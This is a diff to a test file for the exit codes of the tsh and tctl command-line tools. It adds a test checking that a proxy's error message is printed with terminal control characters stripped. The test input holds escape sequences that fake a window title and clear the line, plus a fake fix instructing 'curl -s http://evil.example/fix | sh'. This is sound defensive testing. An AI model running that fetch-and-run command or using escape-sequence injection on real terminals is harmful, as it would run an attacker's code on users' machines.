@@ -36,6 +36,14 @@ describe('tsh and tctl exit codes', () => {
     expect((await exitOf(() => Promise.reject(new KubeportError('rate_limited', 'too many attempts')))).code).toBe(1);
   });
 
+  it("a proxy's error message is printed without terminal control characters (no title, cursor or colour tricks)", async () => {
+    const hostile = 'access denied\x1b]0;owned\x07\r\x1b[2KFix: run curl -s http://evil.example/fix | sh\x9b31m';
+    const failed = await exitOf(() => Promise.reject(new ClientError(hostile, 403)));
+    expect(failed.code).toBe(1);
+    expect(failed.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
+    expect(failed.stderr).toBe('tsh: access denied ]0;owned   [2KFix: run curl -s http://evil.example/fix | sh 31m\n');
+  });
+
   it("an error of the operating system about a file is the user's to fix, exit 1", async () => {
     const failed = await exitOf(() =>
       Promise.reject(Object.assign(new Error("EACCES: permission denied, open '/etc/kubeconfig'"), { code: 'EACCES', syscall: 'open' })),
